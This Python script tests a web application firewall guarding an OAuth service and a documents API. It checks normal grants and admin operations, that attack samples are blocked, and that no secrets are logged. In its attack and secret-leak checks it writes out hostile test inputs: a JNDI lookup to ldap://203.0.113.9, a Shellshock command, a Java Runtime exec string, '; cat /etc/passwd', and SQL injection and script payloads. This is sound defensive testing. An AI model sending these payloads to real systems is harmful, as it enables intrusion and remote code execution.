"""The checks of the web application firewall: what passes it, what does not, and what it writes down.

usage: checks.py, started by tests/waf/run, which says where everything is: AUTH and API (the firewall's two addresses), LOGS,
README
"""

import base64
import collections
import http.client
import json
import os
import pathlib
import re
import secrets
import subprocess
import sys
import urllib.parse

import attacks
import rule_set

AUTH, API, LOGS = os.environ["AUTH"], os.environ["API"], pathlib.Path(os.environ["LOGS"])
PASSWORD, OPERATOR = "correct horse battery staple", "nobody guesses what the operator chose"
EVERYTHING = [sample for samples in attacks.KINDS.values() for sample in samples]
passed = failed = 0
# Whatever is secret and was sent: none of it may be in a log.
canaries = {PASSWORD, OPERATOR}


class Answer:
    """Status, headers and body; whose it is shows in the request id, which only the services give."""

    def __init__(self, response):
        self.status, self.headers, self.text = response.status, response.headers, response.read()
        self.is_from_service = "X-Request-Id" in response.headers

    def json(self):
        return json.loads(self.text) if self.text else {}

    def __str__(self):
        return f"{self.status} from the {'service' if self.is_from_service else 'firewall'}: {self.text[:200]!r}"


def ask(method, url, token=None, form=None, body=None, headers=None, raw=None):
    """One request, exactly as told: nothing is escaped or added on the way."""
    at = urllib.parse.urlsplit(url)
    said = {"Accept": "*/*", "User-Agent": "checks/1"}
    content = raw
    if form is not None:
        said["Content-Type"], content = "application/x-www-form-urlencoded", urllib.parse.urlencode(form)
    if body is not None:
        said["Content-Type"], content = "application/json", json.dumps(body)
    if token:
        said["Authorization"] = f"Bearer {token}"
    connection = http.client.HTTPConnection(at.hostname, at.port, timeout=20)
    # By bytes, so that paths and header values may be what no client would send.
    connection._validate_path = connection._validate_method = lambda _: None  # pylint: disable=protected-access
    connection.request(method, url[len(f"http://{at.netloc}"):], content, {**said, **(headers or {})})
    answer = Answer(connection.getresponse())
    connection.close()
    return answer


def check(what, holds, said=None):
    """Counts it, and says so if it does not hold."""
    global passed, failed
    passed, failed = passed + bool(holds), failed + (not holds)
    if not holds:
        print(f"  FAILED   {what}: {said}")
    return holds


def expect(what, status, answer):
    """Expects this status, of the service's own making."""
    check(what, answer.is_from_service and answer.status == status, answer)
    return answer


def stopped(what, answer, status=403):
    """Expects that the firewall refused, and that the service never heard of it."""
    return check(what, answer.status == status and not answer.is_from_service, answer)


def basic(user, secret):
    """HTTP Basic credentials as RFC 6749 §2.3.1 has them."""
    pair = f"{urllib.parse.quote(user, safe='')}:{urllib.parse.quote(secret, safe='')}"
    return {"Authorization": "Basic " + base64.b64encode(pair.encode()).decode()}


def log_in(user, password=PASSWORD, **wish):
    """The token endpoint's answer to a login."""
    canaries.add(password)
    form = {"grant_type": "password", "client_id": "first-party", "username": user, "password": password, **wish}
    answer = expect(f"{user} logs in", 200, ask("POST", f"{AUTH}/oauth2/token", form=form)).json()
    canaries.update(answer[name] for name in ("access_token", "refresh_token") if name in answer)
    return answer


def tour():
    """Every command of the README's tour, and the status lines that it shows."""
    steps, lines, fence, behind = [], [], None, False
    for line in pathlib.Path(os.environ["README"]).read_text(encoding="utf-8").splitlines():
        if not line.startswith("```"):
            lines.append(line)
            behind = behind and (fence is not None or not line.strip())
        elif fence is None:
            fence, lines = line[3:].strip(), []
        else:
            if fence == "sh tour":
                steps.append(("\n".join(lines), []))
            elif behind and fence in ("text", "json"):
                steps[-1][1].extend(line.rstrip() for line in lines if line.startswith("HTTP/"))
            behind, fence = fence == "sh tour", None
    mark = "@@@ the next step"
    script = "".join(f"{commands}\necho; echo '{mark}'\n" for commands, _ in steps)
    done = subprocess.run(["bash", "-euo", "pipefail", "-s"], input=script, capture_output=True, text=True, check=False, cwd=LOGS)
    outputs = done.stdout.split(mark)
    check("the tour ends", done.returncode == 0 and len(outputs) == len(steps) + 1 > 10, done.stderr[-500:])
    for (commands, shown), output in zip(steps, outputs):
        seen = [line.rstrip() for line in output.splitlines() if line.startswith("HTTP/")]
        check(f"the tour: {commands[:60]!r}", seen == shown, output[-500:])


def grants():
    """Each grant, and what can be asked of and done to a token."""
    pair = log_in("ada")
    form = {"grant_type": "refresh_token", "client_id": "first-party", "refresh_token": pair["refresh_token"]}
    pair = expect("a refresh", 200, ask("POST", f"{AUTH}/oauth2/token", form=form)).json()
    log_in("ada", scope="documents:read", resource=API)
    admin = log_in("admin", OPERATOR, scope="admin:users admin:clients admin:keys admin:audit")["access_token"]
    client = {"id": "batch", "kind": "confidential", "grants": ["client_credentials"], "scopes": ["documents:read"], "roles": ["reader"],
              "default_resource": API, "serves": API}
    made = expect("a client is made", 201, ask("POST", f"{AUTH}/admin/clients", admin, body=client)).json()
    canaries.add(made["secret"])
    for how in ({"headers": basic("batch", made["secret"])}, {"form": {"client_id": "batch", "client_secret": made["secret"]}}):
        form = {"grant_type": "client_credentials", **how.get("form", {})}
        expect("client credentials", 200, ask("POST", f"{AUTH}/oauth2/token", form=form, headers=how.get("headers")))
    for accept in ("application/json", "application/token-introspection+jwt"):
        said = {**basic("batch", made["secret"]), "Accept": accept}
        answer = expect(f"introspection as {accept}", 200,
                        ask("POST", f"{AUTH}/oauth2/introspect", form={"token": pair["access_token"]}, headers=said))
        if accept == "application/json":
            check("the token is active", answer.json()["active"] is True, answer)
    account = log_in("ada", scope="account")["access_token"]
    key = expect("an API key", 201, ask("POST", f"{AUTH}/account/api-keys", account, body={"name": "nightly", "scope": "documents:read"})).json()
    canaries.add(key["key"])
    expect("a key at the API", 200, ask("GET", f"{API}/documents?limit=1", headers={"X-API-Key": key["key"]}))
    form = {"grant_type": "urn:ietf:params:oauth:grant-type:token-exchange", "subject_token": key["key"],
            "subject_token_type": "urn:x-oauth:token-type:api-key"}
    expect("token exchange", 200, ask("POST", f"{AUTH}/oauth2/token", form=form))
    expect("a revocation", 200, ask("POST", f"{AUTH}/oauth2/revoke", form={"client_id": "first-party", "token": pair["refresh_token"]}))
    return admin


def administration(admin):
    """Create, read, replace and delete, of everything."""
    def through(noun, path, body, change):
        made = expect(f"a {noun} is made", 201, ask("POST", f"{AUTH}/admin/{path}", admin, body=body))
        place = AUTH + made.headers.get("Location", f"/admin/{path}/nowhere")
        found = expect(f"the {noun} is read", 200, ask("GET", place, admin))
        if change and made.status == 201:
            tag = {"If-Match": found.headers["ETag"]}
            expect(f"the {noun} is changed", 200, ask("PUT", place, admin, body=change, headers=tag))
        return place, made.json()

    places = []
    name = "https://parts.example/v1"
    places.append(through("resource", "resources", {"id": name, "scopes": ["parts:read"]}, {"scopes": ["parts:read", "parts:write"]})[0])
    places.append(through("resource by address", "resources", {"id": "http://192.0.2.7:9000", "scopes": ["numbers:read"]}, None)[0])
    places.append(through("role", "roles", {"name": "fitter", "scopes": ["parts:read"]}, {"scopes": ["parts:read", "parts:write"]})[0])
    client = {"id": "workshop", "kind": "public", "grants": ["password", "refresh_token"], "scopes": ["parts:read"], "default_resource": name,
              "cors_origins": ["https://workshop.example", "http://localhost:3000"]}
    places.append(through("client", "clients", client, None)[0])
    place, _ = through("user", "users", {"username": "hopper", "roles": ["reader"]}, None)
    places.append(place)
    expect("roles of a user", 200, ask("PUT", f"{place}/roles", admin, body={"roles": ["editor", "fitter"]}))
    expect("a user's sessions", 200, ask("GET", f"{place}/sessions", admin))
    expect("a search for users", 200, ask("GET", f"{AUTH}/admin/users?search=hop&state=active&limit=5", admin))
    expect("the audit trail", 200, ask("GET", f"{AUTH}/admin/audit-events?action=login&outcome=refused&limit=5", admin))
    expect("its export", 200, ask("GET", f"{AUTH}/admin/audit-events/export", admin))
    expect("signing keys", 200, ask("GET", f"{AUTH}/admin/signing-keys", admin))
    for place in reversed(places):
        expect(f"{place} is deleted", 204, ask("DELETE", place, admin))


def browsers():
    """What a browser asks for."""
    for service in (AUTH, API):
        expect("Swagger UI", 200, ask("GET", f"{service}/docs", headers={"Accept": "text/html", "User-Agent": "Mozilla/5.0"}))
        expect("the OpenAPI document", 200, ask("GET", f"{service}/openapi.json"))
        expect("readiness", 200, ask("GET", f"{service}/health/ready"))
    said = {"Origin": "http://localhost:3000", "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "authorization"}
    answer = ask("OPTIONS", f"{AUTH}/oauth2/token", headers=said)
    check("a preflight", answer.headers["Access-Control-Allow-Origin"] == said["Origin"], answer)
    # The form of Swagger UI's dialog, and of every FastAPI client: no client is named.
    expect("a login from a form", 200, ask("POST", f"{AUTH}/oauth2/token", headers={"Origin": said["Origin"], "User-Agent": "Mozilla/5.0"},
                                          form={"grant_type": "password", "username": "ada", "password": PASSWORD, "scope": ""}))


def odd_but_legal():
    """Passwords and documents may be anything, attacks included."""
    token = log_in("ada")["access_token"]
    texts = EVERYTHING + ["grün ✓ 漢字 \u202e", "100% +a&b=c;d", "a\tb\nc", "\\\"'", "x" * 16000, "{\"a\":[1,2]}", "--", "SELECT"]
    for text in texts:
        title = re.sub(r"[\x00-\x1f]", " ", text)[:200]
        wanted = {"title": title, "content": text}
        made = expect(f"a document {text[:40]!r}", 201, ask("POST", f"{API}/documents", token, body=wanted))
        if made.status == 201:
            place = API + made.headers["Location"]
            found = expect("it is read", 200, ask("GET", place, token)).json()
            check(f"it is the same {text[:40]!r}", {name: found[name] for name in wanted} == wanted, found)
            expect("it is replaced", 200, ask("PUT", place, token, body=wanted, headers={"If-Match": made.headers["ETag"]}))
            expect("it is deleted", 204, ask("DELETE", place, token))
    current = PASSWORD
    for text in EVERYTHING:
        text = f"{text} {secrets.token_hex(8)}"
        canaries.update((text, text[-16:]))
        account = log_in("rob", current, scope="account")["access_token"]
        change = {"current_password": current, "new_password": text}
        if expect(f"a password {text!r}", 204, ask("PUT", f"{AUTH}/account/password", account, body=change)).status == 204:
            current = text
            log_in("rob", text)


def attacked():
    """Every sample, wherever a parameter is looked at."""
    token = log_in("ada")["access_token"]
    for kind, samples in attacks.KINDS.items():
        stops = 0
        for sample in samples:
            quoted = urllib.parse.quote(sample, safe="%")
            stops += stopped(f"{kind} in a query: {sample!r}", ask("GET", f"{API}/documents?q={quoted}", token))
            stops += stopped(f"{kind} in a search: {sample!r}", ask("GET", f"{AUTH}/admin/users?search={quoted}", token))
            form = {"grant_type": "password", "username": sample, "password": PASSWORD}
            stops += stopped(f"{kind} in a form: {sample!r}", ask("POST", f"{AUTH}/oauth2/token", form=form))
            stops += stopped(f"{kind} in JSON: {sample!r}", ask("POST", f"{AUTH}/admin/roles", token, body={"name": sample, "scopes": []}))
        print(f"  {stops:3} of {4 * len(samples):3} stopped: {kind}")
    for agent in attacks.SCANNERS:
        stopped(f"a scanner: {agent}", ask("GET", f"{API}/documents", token, headers={"User-Agent": agent}))
    for method in attacks.FOREIGN_METHODS:
        answer = ask(method, f"{API}/documents", token)
        check(f"the method {method}", not answer.is_from_service and answer.status in (403, 405), answer)
    for path in attacks.PATHS:
        answer = ask("GET", API + path, token)
        check(f"the path {path}", not answer.is_from_service and answer.status in (400, 403), answer)
    for what, said in {
        "a body that is neither a form nor JSON": {"Content-Type": "text/xml"},
        "a charset of its own": {"Content-Type": "application/json; charset=ibm037"},
        "a Java class in a header": {"Content-Type": "application/json", "Referer": "java.lang.Runtime.getRuntime().exec(1)"},
        "a lookup in a cookie": {"Content-Type": "application/json", "Cookie": "a=${jndi:ldap://203.0.113.9/a}"},
        "Shellshock": {"Content-Type": "application/json", "User-Agent": "() { :; }; /bin/bash -c id"},
    }.items():
        stopped(what, ask("POST", f"{API}/documents", token, raw='{"title": "x", "content": ""}', headers=said))


def rule_sets_own():
    """What the rule set tests itself with, at both services, each from an address of its own by which the log knows it."""
    samples, log = rule_set.Samples(), rule_set.Log(LOGS / "modsecurity.log")
    check("the rule set has samples", len(samples.all) > 1000, len(samples.all))
    sent, tally = [], collections.Counter()
    for number, (service, path) in enumerate(((AUTH, "/oauth2/token"), (API, "/documents"))):
        for place, sample in enumerate(samples.all):
            source = f"127.{10 + number}.{place // 250}.{place % 250 + 1}"
            sent.append((sample, path, source, rule_set.send(service, source, sample.at(path))))
    rule_set.send(API, last := "127.12.0.1", b"GET /documents?q=/etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n")
    found = log.rules_when_there_is(last)
    check("the log has come to its end", last in found)
    for sample, path, source, (status, is_from_service) in sent:
        rules = found.get(source, set())
        verdict, is_well = samples.verdict(sample, status, is_from_service, rules)
        tally[verdict] += 1
        check(f"the sample {sample.name} at {path}: {verdict}", is_well, (status, sorted(rules), sample.content))
    stops = sum(number for verdict, number in tally.items() if verdict.startswith(("stopped", "refused")))
    print(f"  {stops} of {stops + tally['passed']} stopped, of {len(samples.all)} samples of the rule set's own at two services")
    for verdict, number in tally.most_common():
        print(f"    {number:4} {verdict}")
    for why, number in samples.left_out.items():
        print(f"    {number:4} left out: {why}")


def secrets_stay():
    """Requests that are refused, each with a secret in it."""
    attack = "1' OR '1'='1"
    def canary():
        canaries.add(fresh := secrets.token_hex(16))
        return fresh

    form = {"grant_type": "password", "username": attack, "password": f"' OR 1=1-- {canary()}", "client_secret": canary()}
    stopped("an attack beside a password", ask("POST", f"{AUTH}/oauth2/token", form=form))
    stopped("an attack beside a token", ask("GET", f"{API}/documents?q={urllib.parse.quote(attack)}", canary()))
    stopped("an attack beside an API key", ask("GET", f"{API}/documents?q={urllib.parse.quote(attack)}", headers={"X-API-Key": canary()}))
    body = {"username": attack, "current_password": f"<script>{canary()}", "new_password": f"; cat /etc/passwd {canary()}"}
    stopped("an attack beside two passwords", ask("POST", f"{AUTH}/account/password", body=body))
    stopped("broken JSON with a password", ask("POST", f"{AUTH}/account/password", raw=f'{{"new_password": "{canary()}" "x"',
                                               headers={"Content-Type": "application/json"}), 400)
    # What 100005 looks for in one place, of which half is in a secret.
    form = {"grant_type": "password", "username": "runtime", "password": f"java.{canary()}"}
    check("half of a Java class", ask("POST", f"{AUTH}/oauth2/token", form=form).is_from_service)
    # Forms that are none: whoever refuses them, it is without a word of what was in them.
    said = {"Content-Type": "application/x-www-form-urlencoded"}
    for password in ("{}%zz", "{}%u0027 OR 1=1--", "{}\x00", "%c0%ae{}", "{}' OR '1'='1"):
        form = f"grant_type=password&username=%zz&password={password.format(canary())}"
        stopped("a form that cannot be decoded", ask("POST", f"{AUTH}/oauth2/token", raw=form, headers=said), 400)
    form = f"grant_type=password&username=%zz&password={canary()}&x=<script>alert(1)</script>"
    stopped("and with an attack in it", ask("POST", f"{AUTH}/oauth2/token", raw=form, headers=said))
    for name in ("access_token", "password", "client_secret", "refresh_token"):
        stopped(f"{name} in a URL", ask("GET", f"{API}/documents?{name}={canary()}&q={urllib.parse.quote(attack)}"), 400)


def what_is_written():
    """The log names every attack, and no secret is in any of the firewall's files."""
    with (LOGS / "modsecurity.log").open(encoding="utf-8", errors="replace") as lines:
        # Without the rule set's own samples, which come from addresses of their own.
        events = [event for event in map(json.loads, lines) if event["transaction"]["client_ip"] == "127.0.0.1"]
    check("every attack is an event", len(events) > 4 * len(EVERYTHING), len(events))
    blamed = {message["details"]["ruleId"][:3] for event in events for message in event["transaction"]["messages"]}
    check("each with the rules that found it", {"913", "920", "921", "930", "931", "932", "933", "934", "941", "942", "943", "944"} <= blamed, blamed)
    check("headers and bodies are not written down", all("headers" not in event["transaction"]["request"]
                                                         and "body" not in event["transaction"]["request"] for event in events))
    for file in sorted([*LOGS.glob("*.log"), LOGS.parent / "nginx.log"]):
        text = file.read_text(encoding="utf-8", errors="replace")
        # As it is, as a form has it, and as JSON has it.
        found = [secret for secret in canaries for form in {secret, urllib.parse.quote(secret), urllib.parse.quote_plus(secret),
                 json.dumps(secret)[1:-1]} if form in text]
        check(f"no secret in {file.name}", text is not None and not found, found[:3])
    check("there were secrets to look for", len(canaries) > len(EVERYTHING), len(canaries))


tour()
administration(grants())
browsers()
odd_but_legal()
attacked()
rule_sets_own()
secrets_stay()
what_is_written()
print(f"\nfirewall: {passed} passed, {failed} failed")
sys.exit(failed != 0)
